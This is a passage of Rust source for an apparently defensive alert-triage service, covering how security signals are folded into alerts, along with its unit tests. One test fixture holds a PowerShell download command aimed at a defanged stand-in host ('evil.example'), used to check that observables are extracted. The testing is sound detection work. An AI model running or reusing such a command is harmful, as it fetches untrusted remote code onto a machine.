    pub fn finish(mut self) -> Vec<RaisedAlert> {
        if let Some((current, true)) = self.current.take() {
            self.done.push(current);
        }
        self.done
    }
}

/// Folds a batch of signals that passed the duplicate check, group by
/// group: `open_alert` returns the group's most recent alert that is not
/// closed. Returns the alerts to write and each signal's fate, in input order.
pub fn fold_batch<E>(
    signals: &[&AlertSignal],
    window: Duration,
    instance: InstanceId,
    at: Timestamp,
    mut open_alert: impl FnMut(&FoldGroup) -> Result<Option<Alert>, E>,
) -> Result<(Vec<RaisedAlert>, Vec<SignalFate>), E> {
    let mut groups: std::collections::BTreeMap<FoldGroup, Vec<usize>> =
        std::collections::BTreeMap::new();
    for (index, signal) in signals.iter().enumerate() {
        groups.entry(signal.fold_group()).or_default().push(index);
    }
    let mut fates: Vec<Option<SignalFate>> = vec![None; signals.len()];
    let mut written = Vec::new();
    for (group, mut members) in groups {
        members.sort_by_key(|index| signals.get(*index).map(|s| s.event_time));
        let mut folding = AlertFolding::new(open_alert(&group)?, window, instance, at);
        for index in members {
            if let (Some(signal), Some(fate)) = (signals.get(index), fates.get_mut(index)) {
                *fate = Some(folding.add(signal));
            }
        }
        written.extend(folding.finish());
    }
    let fates = fates
        .into_iter()
        .map(|fate| fate.unwrap_or_else(|| SignalFate::Rejected("not folded".into())))
        .collect();
    Ok((written, fates))
}

#[cfg(test)]
mod tests {
    use super::*;

    const HOUR: Duration = Duration::from_secs(3600);

    fn at(seconds: i64) -> Timestamp {
        Timestamp::from_unix_micros(1_700_000_000_000_000 + seconds * 1_000_000)
    }

    fn signal(event: &str, seconds: i64) -> AlertSignal {
        let mut signal = AlertSignal::new(
            TenantId::from_uuid(uuid::Uuid::nil()),
            AlertRule::new("rule-1", "Suspicious logon", Severity::High),
            event,
            at(seconds),
        );
        signal.host = Some("WEB-1".into());
        signal.user = Some("alice".into());
        signal
    }

    #[test]
    fn an_alert_yields_the_observables_of_its_fields_user_and_host() {
        let mut signal = signal("e1", 0);
        signal.host = Some("ws-7.corp.example".into());
        signal.user = Some("CORP\\Alice".into());
        for (field, value) in [
            ("DestinationIp", serde_json::json!("192.0.2.7")),
            (
                "Hashes",
                serde_json::json!(
                    "SHA256=9F86D081884C7D659A2FEAA0C55AD015A3BF4F1B2B0B822CD15D6C15B0F00A08,IMPHASH=00"
                ),
            ),
            (
                "CommandLine",
                serde_json::json!("powershell.exe -c iwr hxxp://evil[.]example/x.ps1"),
            ),
            ("TargetUserName", serde_json::json!(["svc-backup", "-"])),
            ("UserAgent", serde_json::json!("curl/8.0")),
            ("EventID", serde_json::json!(4625)),
        ] {
            signal.matched_fields.insert(field.into(), value);
        }
        let alert = Alert::open(&signal, InstanceId::from_uuid(uuid::Uuid::nil()), at(0));
        let found: std::collections::BTreeSet<String> = alert
            .observables()
            .iter()
            .map(ToString::to_string)
            .collect();
        assert_eq!(
            found,
            std::collections::BTreeSet::from([
                "ipv4:192.0.2.7",
                "sha256:9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08",
                "url:http://evil.example/x.ps1",
                "domain:evil.example",
                "user:svc-backup",
                "user:corp\\alice",
                "domain:ws-7.corp.example",
            ])
            .into_iter()
            .map(str::to_owned)
            .collect(),
        );
        assert_eq!(alert.observables().len(), found.len(), "each once");
    }

    #[test]
    fn attack_technique_ids_come_from_attack_tags() {
        let mut rule = AlertRule::new("r", "t", Severity::Low);
        rule.tags = [
            "attack.execution",
            "attack.t1059.001",
            "ATTACK.T1003",
            "attack.t1059.001",
            "attack.t12345",
            "attack.t1059.01",
            "attack.g0016",
            "cve.2021-44228",
            "attack.t1003.",
        ]
        .map(str::to_owned)
        .to_vec();
        assert_eq!(rule.attack_techniques(), vec!["T1059.001", "T1003"]);
    }

    #[test]
    fn severities_order_and_parse() {
        assert!(Severity::Critical > Severity::High);
        assert!(Severity::Informational < Severity::Low);
        assert_eq!("HIGH".parse::<Severity>().unwrap(), Severity::High);
        assert!("severe".parse::<Severity>().is_err());
        for severity in Severity::ALL {
            assert_eq!(
                Severity::from_rank(i64::from(severity.rank())),
                Some(severity)
            );
        }
    }

    #[test]
    fn the_default_key_is_host_and_user_without_case() {
        let mut one = signal("e1", 0);
        let mut two = signal("e2", 0);
        two.host = Some("web-1".into());
        assert_eq!(one.fold_key(), two.fold_key());
        two.user = Some("bob".into());
        assert_ne!(one.fold_key(), two.fold_key());
        one.fold_key = Some("10.0.0.1".into());
        assert_eq!(one.fold_key(), "key:10.0.0.1");
        assert_eq!(
            signal("e1", 0).delivery_key(),
            signal("e1", 5).delivery_key()
        );
        assert_ne!(
            signal("e1", 0).delivery_key(),
            signal("e2", 0).delivery_key()
        );
        let mut exercise = signal("e3", 0);
        exercise.exercise = true;
        assert_ne!(signal("e4", 0).fold_group(), exercise.fold_group());
    }

    #[test]
    fn folding_windows_are_inclusive_at_the_edges() {
        let alert = Alert::open(&signal("e1", 0), InstanceId::new(), at(0));
        assert!(alert.accepts(at(3600), HOUR), "exactly one window later");
        assert!(!alert.accepts(
            Timestamp::from_unix_micros(at(3600).unix_micros() + 1),
            HOUR
        ));
        assert!(alert.accepts(at(-3600), HOUR), "exactly one window earlier");
        assert!(!alert.accepts(at(-3601), HOUR));
        let mut closed = alert.clone();
        closed.status = AlertStatus::Closed;
        assert!(!closed.accepts(at(1), HOUR));
    }

    #[test]
    fn a_batch_folds_by_group_and_opens_past_the_window() {
        let signals = [
            signal("e1", 0),
            signal("e2", 10),
            signal("e3", 3610),
            signal("e4", 3611 + 3600),
        ];
        let refs: Vec<&AlertSignal> = signals.iter().collect();
        let (written, fates) =
            fold_batch::<()>(&refs, HOUR, InstanceId::new(), at(9000), |_| Ok(None)).unwrap();
        assert_eq!(written.len(), 2, "{written:?}");
        let first = &written[0].alert;
        assert_eq!(first.count, 3);
        assert_eq!(first.event_ids, vec!["e1", "e2", "e3"]);
        assert_eq!((first.first_seen, first.last_seen), (at(0), at(3610)));
        assert_eq!(written[1].alert.count, 1);
        assert!(matches!(fates[0], SignalFate::Opened(id) if id == first.id));
        assert!(matches!(fates[2], SignalFate::Folded(id) if id == first.id));
        assert!(matches!(fates[3], SignalFate::Opened(id) if id == written[1].alert.id));
    }

    #[test]
    fn event_ids_are_bounded_and_the_count_goes_on() {
        let mut alert = Alert::open(&signal("e0", 0), InstanceId::new(), at(0));
        for n in 1..150 {
            alert.fold(&signal(&format!("e{n}"), n), at(n));
        }
        assert_eq!(alert.count, 150);
        assert_eq!(alert.event_ids.len(), MAX_ALERT_EVENT_IDS);
        assert_eq!(alert.event_ids.last().unwrap(), "e99");
    }

    #[test]
    fn triage_follows_the_status() {
        let new = Alert::open(&signal("e1", 0), InstanceId::new(), at(0));
        let acknowledged = new
            .triage(&AlertTriage::Acknowledge, at(5))
            .unwrap()
            .unwrap();
        assert_eq!(acknowledged.status, AlertStatus::Acknowledged);
        assert_eq!(acknowledged.acknowledged_at, Some(at(5)));
        assert_eq!(
            acknowledged.triage(&AlertTriage::Acknowledge, at(6)),
            Ok(None)
        );
        let close = AlertTriage::Close {
            resolution: Resolution::Benign,
            note: Some(AlertText::parse("authorised scan").unwrap()),
        };
        let closed = acknowledged.triage(&close, at(7)).unwrap().unwrap();
        assert_eq!(closed.resolution, Some(Resolution::Benign));
        assert!(closed.triage(&close, at(8)).is_err());
        assert!(closed.triage(&AlertTriage::Acknowledge, at(8)).is_err());
        assert!(
            new.triage(&AlertTriage::Reopen { to: ReopenAs::New }, at(8))
                .is_err()
        );
        let reopened = closed
            .triage(&AlertTriage::Reopen { to: ReopenAs::New }, at(9))
            .unwrap()
            .unwrap();
        assert_eq!(reopened.status, AlertStatus::New);
        assert_eq!((reopened.resolution, reopened.closed_at), (None, None));
        let user = UserId::new();
        let assigned = new
            .triage(&AlertTriage::Assign(Some(user)), at(1))
            .unwrap()
            .unwrap();
        assert_eq!(assigned.assignee, Some(user));
        assert_eq!(
            assigned.triage(&AlertTriage::Assign(Some(user)), at(2)),
            Ok(None)
        );
    }

    #[test]
    fn signals_and_texts_are_bounded() {
        assert!(signal("e1", 0).check().is_ok());
        let mut long = signal(&"x".repeat(EVENT_ID_MAX_CHARS + 1), 0);
        assert!(matches!(
            long.check(),
            Err(InvalidAlertField::TooLong {
                field: "event id",
                ..
            })
        ));
        long = signal("e1", 0);
        long.rule.title = "line\nbreak".into();
        assert_eq!(
            long.check(),
            Err(InvalidAlertField::ControlCharacter("rule title"))
        );
        assert!(AlertText::parse("  ").is_err());
        assert_eq!(
            AlertText::parse(" two\nlines ").unwrap().as_str(),
            "two\nlines"
        );
        assert!(AlertText::parse("bell\u{7}").is_err());
    }
}
